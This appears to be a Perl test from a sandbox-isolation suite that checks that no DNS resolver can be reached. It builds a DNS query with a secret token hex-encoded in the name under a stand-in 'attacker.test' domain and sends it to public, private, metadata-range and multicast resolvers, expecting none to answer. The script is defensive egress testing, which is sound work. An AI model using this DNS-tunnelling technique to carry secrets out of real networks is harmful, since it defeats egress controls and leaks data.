# title: DNS by hand: queries with a secret in the name, over UDP and TCP, to public, private and local resolvers; multicast DNS, LLMNR.
# expect: No resolver can be reached.
# control: other-network
use strict;
use warnings;
use Attack qw(succeeded refused inconclusive facts);
use Door;
use Network;

my $secret = unpack 'H*', substr 'not-a-secret' . own_token(), -12;
my $query = pack('nnnnnn', 1, 0x0100, 1, 0, 0, 0) . join('', map { chr(length) . $_ } $secret, 'attacker', 'test') . pack('Cnn', 0, 1, 1);
my @resolvers = ('1.1.1.1', '8.8.8.8', '9.9.9.9', '10.0.0.2', '10.96.0.10', '169.254.169.253', '172.17.0.1', '192.168.1.1', '2606:4700:4700::1111', '224.0.0.251', '224.0.0.252');
none_reached(map { my $host = $_; ("UDP $host" => sub { reach_udp($host, $host =~ /^224/ ? 5353 : 53, $query) }, "TCP $host" => sub { $host =~ /^224/ ? undef : reach_tcp($host, 53) }) } @resolvers);
